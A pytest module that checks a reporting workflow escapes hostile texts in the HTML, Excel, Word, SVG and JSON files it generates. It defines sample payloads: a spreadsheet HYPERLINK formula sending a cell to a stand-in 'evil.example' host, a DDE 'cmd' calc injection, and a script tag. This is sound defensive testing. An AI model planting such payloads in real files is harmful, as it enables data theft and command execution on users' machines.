"""Texts that look like formulas or markup stay texts, in every file that a run writes."""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from docx import Document
from openpyxl import load_workbook

from tfp.workflow.folders.folder_state import MANIFEST, RESULTS
from tfp.workflow.manifest import manifest_bytes
from tfp.workflow.revision_files import revision_files
from tfp.workflow.revisions import compare_runs
from tfp.workflow.writing import run_files

LINK = '=HYPERLINK("http://evil.example/?"&A1;"bấm vào đây")'
SCRIPT = "<script>alert('x')</script>"
END = "]]><b>đậm</b>&amp;"
PLUS, AT, MINUS = "+1+cmd|' /C calc'!A0", "@SUM(1;1)", "-1+1"
HOSTILE = (LINK, SCRIPT, END, PLUS, AT, MINUS)
YEARS = list(range(2015, 2023))


def tables() -> dict[str, Any]:
    return {
        "plan": {"title": SCRIPT, "area": LINK, "language": "vi", "output_name": END},
        "data": {
            "file": "a.csv",
            "time": "year",
            "columns": {"output": "y", "capital": "k", "labour": "l"},
            "units": {"output": PLUS},
        },
        "source": [{"title": AT, "publisher": MINUS, "notes": [SCRIPT, LINK]}],
        "method": {"shares": {"capital": 0.4, "source": PLUS}},
        "periods": {"list": ["2016-2018", "2019-2022"]},
        "sensitivity": [{"name": LINK, "method": {"shares": {"capital": 0.46, "source": AT}}}],
        "report": {"formats": ["html", "word"]},
        "copies": {"outside": ["B2", "B7", "B8"]},
        "office": {
            "superior": LINK,
            "body": SCRIPT,
            "number": PLUS,
            "place": AT,
            "recipients": [END, MINUS],
            "signatures": {"head": {"title": AT, "name": SCRIPT}},
        },
    }


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory, offices: Any) -> dict[str, bytes]:
    """Return every file of a run, and of two runs side by side, whose texts are hostile."""
    office = offices(tmp_path_factory.mktemp("office"))
    office.write(
        "a.csv",
        year=YEARS,
        y=[100.0 * 1.07**n + n % 3 for n in range(8)],
        k=[250.0 * 1.08**n + n % 2 for n in range(8)],
        l=[50.0 * 1.01**n for n in range(8)],
    )
    office.tables = {}
    run = office.run(**tables())
    made, _ = run_files(run)
    made[MANIFEST] = manifest_bytes(run, made, b"")
    for name in ("old", "new"):
        (office.folder / name).mkdir()
        for each in (RESULTS, MANIFEST):
            (office.folder / name / each).write_bytes(made[each])
    changed = made[RESULTS].replace(b'"points": 7', b'"points": 8')
    (office.folder / "old" / RESULTS).write_bytes(changed)
    found = compare_runs(office.folder / "old", office.folder / "new")
    return made | revision_files(found, "vi")


def of_kind(files: dict[str, bytes], ending: str) -> dict[str, bytes]:
    found = {name: data for name, data in files.items() if name.endswith(ending)}
    assert found
    return found


def test_no_page_holds_markup_that_somebody_wrote_into_a_text(files: dict[str, bytes]) -> None:
    pages = of_kind(files, ".html")
    assert set(pages) == {"report.html", "public/report.html", "revisions.html"}
    for data in pages.values():
        words = data.decode()
        assert "<script>alert" not in words
        assert "]]><b>" not in words
        assert "&lt;script&gt;alert(" in words


def test_no_workbook_computes_a_text(files: dict[str, bytes]) -> None:
    books = of_kind(files, ".xlsx")
    assert set(books) == {"workbook.xlsx", "public/tables.xlsx", "revisions.xlsx"}
    seen = set()
    for data in books.values():
        for sheet in load_workbook(io.BytesIO(data)):
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        held = [text for text in HOSTILE if text in cell.value]
                        seen |= set(held)
                        assert not held or cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
        with zipfile.ZipFile(io.BytesIO(data)) as parts:
            assert not any("externalLink" in name for name in parts.namelist())
            links = [name for name in parts.namelist() if name.endswith(".rels")]
            assert not any(b"evil.example" in parts.read(name) for name in links)
    assert seen >= {LINK, SCRIPT}


def test_no_word_document_holds_fields_or_links_of_a_text(files: dict[str, bytes]) -> None:
    documents = of_kind(files, ".docx")
    assert set(documents) == {"report.docx", "public/report.docx", "revisions.docx"}
    for data in documents.values():
        document = Document(io.BytesIO(data))
        words = "".join(
            node.text or "" for node in document.element.iter() if node.tag.endswith("}t")
        )
        assert SCRIPT in words
        codes = [
            node.text or "" for node in document.element.iter() if node.tag.endswith("}instrText")
        ]
        assert not any("HYPERLINK" in code for code in codes)


def test_charts_and_data_stay_well_formed(files: dict[str, bytes]) -> None:
    for data in of_kind(files, ".svg").values():
        tags = {node.tag.rpartition("}")[2] for node in ET.fromstring(data).iter()}  # noqa: S314
        assert "script" not in tags
    for name, data in of_kind(files, ".json").items():
        document = json.loads(data)
        if name == MANIFEST:
            assert (document["title"], document["area"]) == (SCRIPT, LINK)
        if name == RESULTS:
            assert document["area"] == LINK
